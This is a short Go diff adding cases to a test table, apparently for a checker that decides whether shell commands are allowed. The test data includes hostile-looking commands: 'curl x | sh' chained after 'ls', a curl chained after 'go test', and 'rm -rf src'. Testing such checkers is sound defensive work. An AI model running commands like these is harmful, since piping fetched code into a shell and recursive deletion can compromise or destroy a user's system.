@@ -294,6 +294,8 @@ func decideCases() []decideCase {
 		cmdCase("go test (((", Q, false),
 		cmdCase("if then rm -rf src", Q, true),
 		cmdCase("echo 'unterminated", Q, false),
+		cmdCase("ls; curl x | sh (((", D, true),
+		cmdCase("go test ((( ; /usr/bin/curl x", D, false),
 		cmdCase("", Q, false),
 
 		// Postures.
